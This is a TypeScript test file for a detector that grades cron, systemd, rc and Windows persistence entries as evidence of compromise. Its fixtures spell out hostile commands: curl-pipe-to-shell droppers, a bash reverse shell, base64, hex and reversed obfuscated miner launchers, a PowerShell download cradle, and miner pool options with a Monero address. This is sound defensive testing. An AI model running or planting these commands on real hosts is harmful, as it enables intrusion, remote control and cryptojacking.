import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { CoalEvent } from '../model/event.js';
import type { Signal } from '../model/signal.js';
import { createClassifier } from './index.js';
import { isEntryCommand, launchedPaths, persistence } from './persistence.js';
import { DEFAULT_RULE_DIRS } from './rules.js';
import { loadRules } from './sigma/index.js';
import { evt, signalsOf, testIntel } from './test-events.js';

type Mechanism = NonNullable<CoalEvent['coalmine']['persistence']>['mechanism'];

function entry(
  command: string | undefined,
  target?: string,
  mechanism: Mechanism = 'cron',
  path = '/var/spool/cron/crontabs/redis',
) {
  return evt('persistence-entry', {
    ...(command !== undefined ? { process: { command_line: command } } : {}),
    file: { path, line: command ?? `ExecStart=${target}` },
    coalmine: {
      ts: Date.UTC(2025, 2, 14),
      format: 'crontab',
      ref: { file: 'var/spool/cron/crontabs/redis', line: 5 },
      persistence: target !== undefined ? { mechanism, target } : { mechanism },
    },
  });
}

const grade = (command: string | undefined, target?: string, mechanism?: Mechanism) =>
  signalsOf(persistence, entry(command, target, mechanism)).map((s: Signal) => s.strength);

test('every entry is a persistence signal tied to its target', () => {
  const s = signalsOf(persistence, entry('/tmp/kdevtmpfsi -B > /dev/null 2>&1', '/tmp/kdevtmpfsi'));
  assert.equal(s.length, 1);
  assert.equal(s[0].kind, 'persistence');
  assert.equal(s[0].class, 'persistence');
  assert.equal(s[0].by, 'persistence:cron');
  assert.equal(s[0].strength, 'strong');
  assert.equal(s[0].subject?.persistenceTarget, '/tmp/kdevtmpfsi');
  assert.match(
    s[0].explanation,
    /cron entry in \/var\/spool\/cron\/crontabs\/redis: "\/tmp\/kdevtmpfsi -B.*world-writable \/tmp\//,
  );
  assert.deepEqual(s[0].ref, { file: 'var/spool/cron/crontabs/redis', line: 5 });
});

test('entries that run from world-writable or hidden places are strong', () => {
  for (const cmd of [
    'cd /tmp && ./x',
    'bash /var/tmp/.s.sh',
    'sh -c "/dev/shm/sd -o x"',
    'nohup /root/.configrc/a/upd >/dev/null 2>&1 &',
    'env A=1 timeout 60 ~/.cache/.x/run',
    '$HOME/.local/.hid/bin/k',
  ])
    assert.deepEqual(grade(cmd), ['strong'], cmd);
});

test('entries that download or decode code are strong; a fetched URL thrown away is medium', () => {
  for (const cmd of [
    'curl -fsSL http://203.0.113.47/d.sh | sh',
    '(curl -fsSL http://x.example/d.sh || wget -q -O - http://x.example/d.sh) | bash',
    'wget http://x.example/y -O /opt/y',
    'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
    'echo Y3VybCAt | base64 -d | sh',
    'curl -s -o /dev/null http://198.51.100.7/ping',
  ])
    assert.deepEqual(grade(cmd), ['strong'], cmd);
  for (const cmd of [
    'curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/5d8f',
    'wget -q -O - https://shop.example.com/wp-cron.php > /dev/null 2>&1',
  ])
    assert.deepEqual(grade(cmd), ['medium'], cmd);
});

test('entries naming a miner, a pool or a wallet are strong', () => {
  assert.deepEqual(grade('/opt/x/xmrig --config=/opt/x/c.json'), ['strong']);
  assert.deepEqual(grade('/usr/local/bin/app -o stratum+tcp://pool.supportxmr.com:443'), ['strong']);
  const xmr = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
  const s = signalsOf(persistence, entry(`/usr/local/bin/app ${xmr}`));
  assert.match(s[0].explanation, /Monero address/);
  assert.equal(s[0].strength, 'strong');
});

test('an entry whose arguments carry pool options is miner persistence, whatever the program is called', () => {
  const xmr = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
  const cases: Array<[Mechanism, string, string]> = [
    [
      'cron',
      `@reboot /usr/bin/systemd-helper -o pool.example:443 -u ${xmr} >/dev/null 2>&1`,
      '/usr/bin/systemd-helper',
    ],
    ['systemd', '/usr/local/bin/dbus-sync --url=198.51.100.7:3333 --user worker1 -p x', '/usr/local/bin/dbus-sync'],
    ['rc', 'nohup /usr/sbin/netcheck -o pool.example:14444 -a rx/0 &', '/usr/sbin/netcheck'],
    ['systemd', '/opt/agent/agent --donate-level 1 --cpu-max-threads-hint 75', '/opt/agent/agent'],
    [
      'scheduled-task',
      'C:Program FilesIntelsvcupd.exe -o stratum+ssl://pool.example:443 -u x',
      'C:Program FilesIntelsvcupd.exe',
    ],
  ];
  for (const [mechanism, command, target] of cases) {
    const s = signalsOf(persistence, entry(command, target, mechanism));
    assert.deepEqual(
      s.map((x) => x.strength),
      ['strong'],
      command,
    );
    assert.match(s[0].explanation, /mining pool options \(.*(?:-o|--url|--donate-level).*\): a miner/, command);
    assert.equal(s[0].subject?.persistenceTarget, target);
  }
});

test('-o, -u and -p of other programs do not make an entry a miner', () => {
  for (const cmd of [
    '/usr/bin/ssh -o StrictHostKeyChecking=no -o BatchMode=yes backup@10.0.0.4 /usr/local/bin/snap.sh',
    '/usr/bin/gcc -O2 -o /opt/build/out /opt/build/main.c',
    '/usr/bin/mysqldump -u backup -p x shop',
    '/usr/bin/rsync -a -e "ssh -o BatchMode=yes" /srv/ host:/dst/',
  ])
    assert.deepEqual(grade(cmd), ['weak'], cmd);
});

test('a cron line hiding its script by base64, hex, escapes or reversal is read decoded', () => {
  const b64 = (t: string) => Buffer.from(t).toString('base64');
  const hex = (t: string) => Buffer.from(t).toString('hex');
  const cases: Array<[string, RegExp]> = [
    [
      `*/5 * * * * echo ${b64('cd /usr/lib/.x; ./sshd-helper -o pool.example:443 -u worker -p x')} | base64 -d | bash`,
      /mining pool options \(-o pool\.example:443.*once decoded \(base64-decoded shell\)/,
    ],
    [
      `@reboot echo ${b64('/opt/.cache/xmrig -B')} | base64 --decode | sh`,
      /names xmrig.*once decoded \(base64-decoded shell\)/,
    ],
    [
      `@hourly echo ${hex('/usr/bin/kinsing')} | xxd -r -p | sh`,
      /names kinsing.*once decoded \(hex-decoded \(xxd\) shell\)/,
    ],
    [
      `@daily base64 -d <<< ${b64(`echo ${b64('/opt/kdevtmpfsi')} | base64 -d | sh`)} | sh`,
      /names kdevtmpfsi.*once decoded \(base64-decoded shell\)/,
    ],
    [`* * * * * $(echo 'girmx/nib/rsu/' | rev) -B`, /names xmrig.*once decoded \(reversed string\)/],
  ];
  for (const [line, why] of cases) {
    const s = signalsOf(persistence, entry(line));
    assert.equal(s[0].strength, 'strong', line);
    assert.match(s[0].explanation, why, line);
  }
  // escapes spelling an ordinary program still hide what runs
  assert.deepEqual(grade(`@daily $'\\x2f\\x75\\x73\\x72/bin/updatedb'`), ['strong']);
});

test('a preload entry is always strong', () => {
  assert.deepEqual(grade(undefined, '/usr/local/lib/libprocesshider.so', 'preload'), ['strong']);
});

test('a source that gives only a target is graded by that target', () => {
  assert.deepEqual(grade(undefined, '/dev/shm/.x/miner', 'systemd'), ['strong']);
  assert.deepEqual(grade(undefined, '/usr/sbin/nginx', 'systemd'), ['weak']);
});

test('entries running programs from home or unusual directories are medium', () => {
  assert.deepEqual(grade('/home/deploy/bin/backup.sh --all'), ['medium']);
  assert.deepEqual(grade('"/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null'), ['medium']);
  assert.deepEqual(grade('/mnt/data/job'), ['medium']);
});

test('ordinary entries are weak, including ones that only mention /tmp as an argument', () => {
  for (const cmd of [
    'cd / && run-parts --report /etc/cron.hourly',
    'find /tmp -type f -mtime +7 -delete',
    'rm -f /tmp/app.lock',
    '/usr/bin/php /var/www/html/wp-cron.php',
    'test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )',
    '/usr/bin/certbot renew --quiet',
    'cd /srv/app && php artisan schedule:run >> /dev/null 2>&1',
    'flock -n /tmp/report.lock /opt/reports/build --since 1d',
  ])
    assert.deepEqual(grade(cmd), ['weak'], cmd);
});

test('launched paths are the programs a command runs, not its arguments', () => {
  assert.deepEqual(launchedPaths('cd /tmp && ./x -o y | tee /tmp/log'), ['/tmp/x', 'tee']);
  assert.deepEqual(launchedPaths('sudo -u app nice -n 5 /opt/app/run'), ['/opt/app/run']);
  assert.deepEqual(launchedPaths('python3 /srv/job.py --tmp /tmp/x'), ['python3', '/srv/job.py']);
  assert.deepEqual(launchedPaths('x=$(/tmp/.a/b)'), ['/tmp/.a/b']);
  assert.deepEqual(launchedPaths('flock -n /tmp/job.lock /opt/job/run'), ['/opt/job/run']);
  assert.deepEqual(launchedPaths('exec -a [kworker] /dev/shm/k'), ['/dev/shm/k']);
});

test('a write to a persistence location is medium evidence against the writer, without a target', () => {
  for (const path of [
    '/var/spool/cron/crontabs/redis',
    '/etc/cron.d/sysupdate',
    '/etc/systemd/system/kworker.service',
    '/home/ana/.config/systemd/user/x.service',
    '/root/.bashrc',
    '/home/ana/.ssh/authorized_keys',
    '/etc/rc.local',
    '/etc/init.d/network2',
  ]) {
    const s = signalsOf(persistence, evt('file-write', { process: { pid: 4115, name: 'crontab' }, file: { path } }));
    assert.deepEqual(
      s.map((x) => [x.kind, x.strength, x.subject?.persistenceTarget]),
      [['persistence', 'medium', undefined]],
      path,
    );
    assert.match(s[0].explanation, /crontab \(pid 4115\) wrote/);
  }
});

test('package managers writing units are weak; other paths and the preload file (a Sigma rule) raise nothing', () => {
  const dpkg = signalsOf(
    persistence,
    evt('file-write', { process: { pid: 9, name: 'dpkg' }, file: { path: '/lib/systemd/system/nginx.service' } }),
  );
  assert.deepEqual(
    dpkg.map((x) => x.strength),
    ['weak'],
  );
  for (const path of ['/var/log/app.log', '/etc/ld.so.preload', '/home/ana/notes.txt'])
    assert.deepEqual(signalsOf(persistence, evt('file-write', { process: { pid: 1 }, file: { path } })), [], path);
  assert.deepEqual(signalsOf(persistence, evt('file-write', { process: { pid: 1 } })), []);
});

test('hostile entries never throw and stay bounded', () => {
  const s = signalsOf(persistence, entry(`${'; /tmp/x'.repeat(20_000)}\u001b]0;pwned\u0007`));
  assert.equal(s[0].strength, 'strong');
  assert.ok(s[0].explanation.length < 600);
  assert.deepEqual(grade(''), ['weak']);
});

test('Windows: a task file (a task registered through COM shows only as it) and the Startup folders are persistence places', () => {
  const write = (path: string, name: string) =>
    signalsOf(persistence, evt('file-write', { process: { pid: 4410, name }, file: { path } })).map((x) => x.strength);
  // a script dropping a shortcut in a user's Startup folder, or writing a task file itself
  assert.deepEqual(
    write(
      'C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\upd.lnk',
      'powershell.exe',
    ),
    ['medium'],
  );
  assert.deepEqual(
    write('C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\svc.vbs', 'wscript.exe'),
    ['medium'],
  );
  assert.deepEqual(write('c:\\windows\\system32\\Tasks\\Microsoft\\Windows\\Update\\Sync', 'rundll32.exe'), ['medium']);
  // the Schedule service writes every task's file, whoever registered it; installers write shortcuts
  assert.deepEqual(write('C:\\Windows\\System32\\Tasks\\GoogleUpdateTaskMachineUA', 'svchost.exe'), ['weak']);
  assert.deepEqual(write('C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.lnk', 'MsiExec.exe'), [
    'weak',
  ]);
  for (const path of ['C:\\Windows\\Temp\\tasks.txt', 'C:\\Users\\ana\\Documents\\Startup\\notes.txt'])
    assert.deepEqual(write(path, 'powershell.exe'), [], path);
});

const classifyAll = createClassifier(testIntel(), await loadRules(DEFAULT_RULE_DIRS));
/** Every signal the whole dispatch (classifiers, rules, what the entry will run) makes of an event. */
const everything = (event: CoalEvent): Signal[] => {
  const out: Signal[] = [];
  classifyAll(event, out);
  return out;
};
const XMR = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';

test('what an entry will run is judged as a command: a renamed miner is miner evidence on the host, citing the entry', () => {
  for (const [mechanism, path, command] of [
    [
      'cron',
      '/var/spool/cron/crontabs/redis',
      `/usr/local/bin/kcached -o 198.51.100.23:443 -u ${XMR} -p x -B >/dev/null 2>&1`,
    ],
    [
      'systemd',
      '/etc/systemd/system/php-fpm-helper.service',
      `/usr/local/lib/php-fpm-helper --url pool.example.net:3333 --user ${XMR} --algo rx/0`,
    ],
    ['rc', '/etc/rc.local', `nohup /opt/app/bin/worker -o stratum+tcp://203.0.113.5:3333 --donate-level 1 &`],
  ] as const) {
    const s = everything(entry(command, undefined, mechanism, path));
    const miner = s.filter((x) => x.kind === 'miner-process');
    assert.ok(miner.length > 0, command);
    for (const x of miner) {
      assert.equal(x.strength, 'strong', x.explanation);
      assert.equal(x.class, 'process');
      assert.ok(isEntryCommand(x));
      assert.equal(x.entity, 'host:web-01');
      assert.deepEqual(x.ref, { file: 'var/spool/cron/crontabs/redis', line: 5 });
      assert.equal(x.persistence?.file, path);
      assert.equal(x.persistence?.line, 5);
      assert.equal(x.persistence?.mechanism, mechanism);
      assert.ok(x.explanation.startsWith(`what the ${mechanism} entry ${path}:5 will run: `), x.explanation);
    }
    // the entry itself is still the one persistence signal, tied to its target as before
    assert.deepEqual(
      s.filter((x) => x.class === 'persistence').map((x) => `${x.by}/${x.strength}`),
      [`persistence:${mechanism}/strong`],
    );
  }
});

test('an entry starting a miner by name, a proxyware client by its account flags, or a decoded miner carries that evidence', () => {
  const kinds = (command: string) =>
    everything(entry(command))
      .filter(isEntryCommand)
      .map((x) => `${x.kind}/${x.by}`);
  assert.ok(kinds('/opt/x/xmrig --config=/opt/x/c.json').includes('miner-process/process:miner-name'));
  assert.ok(
    kinds('/usr/local/bin/updater -tou-accept -email ops@example.com -pass s3cret').includes(
      'proxyware-process/process:proxyware-args',
    ),
  );
  const hidden = Buffer.from(`/usr/bin/systemd-helper -o pool.example:443 -u ${XMR}`).toString('base64');
  const decoded = everything(entry(`echo ${hidden} | base64 -d | sh`)).filter(isEntryCommand);
  assert.ok(decoded.some((x) => x.kind === 'miner-process' && /decoded from base64/.test(x.explanation)));
});

test('generic and ordinary entries carry no command evidence: a download piped to a shell stays persistence only', () => {
  for (const [command, strength] of [
    ['curl -fsSL http://203.0.113.47/d.sh | bash', 'strong'],
    ['(curl -fsSL http://x.example/d.sh || wget -q -O - http://x.example/d.sh) | sh', 'strong'],
    ['pkill -9 -f xmrig; /tmp/.x/run', 'strong'],
    ['/usr/sbin/logrotate /etc/logrotate.conf', 'weak'],
    ['test -x /usr/bin/certbot && certbot -q renew --no-random-sleep-on-renew', 'weak'],
    ['/usr/lib/apt/apt.systemd.daily update', 'weak'],
    ['/usr/local/bin/backup.sh --target /srv/backup >/var/log/backup.log 2>&1', 'weak'],
    ['mysqldump -u backup --single-transaction appdb | gzip > /srv/backup/appdb.sql.gz', 'weak'],
    ['rsync -a -e "ssh -o BatchMode=yes" /srv/backup/ backup@10.0.0.5:/backups/', 'weak'],
  ] as const) {
    const s = everything(entry(command));
    assert.deepEqual(
      s.map((x) => `${x.kind}/${x.strength}`),
      [`persistence/${strength}`],
      command,
    );
  }
});

test("what an entry's own text shows (a script it decodes into a shell, a cradle) carries the entry: the entry's observation, no process", () => {
  const script = Buffer.from('curl http://203.0.113.9/y.sh|sh').toString('base64');
  const s = everything(entry(`echo ${script} | base64 -d | bash`));
  const dropper = s.find((x) => x.by === 'shell:decoded-script');
  assert.ok(dropper, s.map((x) => x.by).join(', '));
  assert.equal(dropper.kind, 'dropper');
  assert.ok(isEntryCommand(dropper));
  assert.equal(dropper.entity, 'host:web-01');
  assert.deepEqual(dropper.persistence, {
    mechanism: 'cron',
    file: '/var/spool/cron/crontabs/redis',
    line: 5,
    entry: `echo ${script} | base64 -d | bash`,
  });
  // every process-class signal of the entry is the entry's; the persistence signal is the entry itself
  for (const x of s) assert.ok(x.class === 'persistence' || isEntryCommand(x), `${x.by}: ${x.explanation}`);
  // a task's encoded cradle is named as the task, not as a process with no pid
  const cradle = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.50/s.ps1')", 'utf16le');
  const task = everything(
    entry(
      `powershell.exe -nop -w hidden -enc ${cradle.toString('base64')}`,
      'powershell.exe',
      'scheduled-task',
      '\\Microsoft\\Windows\\Updater',
    ),
  );
  const hidden = task.filter((x) => x.class === 'process');
  assert.ok(hidden.length > 0);
  for (const x of hidden) {
    assert.ok(isEntryCommand(x), x.by);
    assert.doesNotMatch(x.explanation, /pid \?/);
  }
  assert.ok(hidden.some((x) => x.explanation.startsWith('the scheduled-task entry')));
});

test('Windows entries (tasks, services, Run values) judge their program as a Windows path, %SystemRoot% and \\SystemRoot as Windows', () => {
  const windowsGrade = (command: string, target: string, mechanism: Mechanism) =>
    signalsOf(persistence, entry(command, target, mechanism, 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\x'))[0];
  for (const [command, target] of [
    ['%SystemRoot%\\PSEXESVC.exe', '%SystemRoot%\\PSEXESVC.exe'],
    ['\\SystemRoot\\System32\\drivers\\vmci.sys', '\\SystemRoot\\System32\\drivers\\vmci.sys'],
    ['%windir%\\system32\\svchost.exe -k netsvcs', '%windir%\\system32\\svchost.exe'],
    [
      '"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe" /svc',
      'C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe',
    ],
  ])
    assert.equal(windowsGrade(command, target, 'service').strength, 'weak', command);
  const miner = windowsGrade(
    `C:\\Windows\\Fonts\\wnsvc.exe -o pool.example:443 -u ${XMR}`,
    'C:\\Windows\\Fonts\\wnsvc.exe',
    'service',
  );
  assert.deepEqual([miner.strength, miner.by], ['strong', 'persistence:service']);
  assert.match(miner.explanation, /^service entry in HKLM\\SYSTEM\\CurrentControlSet\\Services\\x: /);
  assert.equal(windowsGrade('D:\\jobs\\agent.exe', 'D:\\jobs\\agent.exe', 'service').strength, 'medium');
});
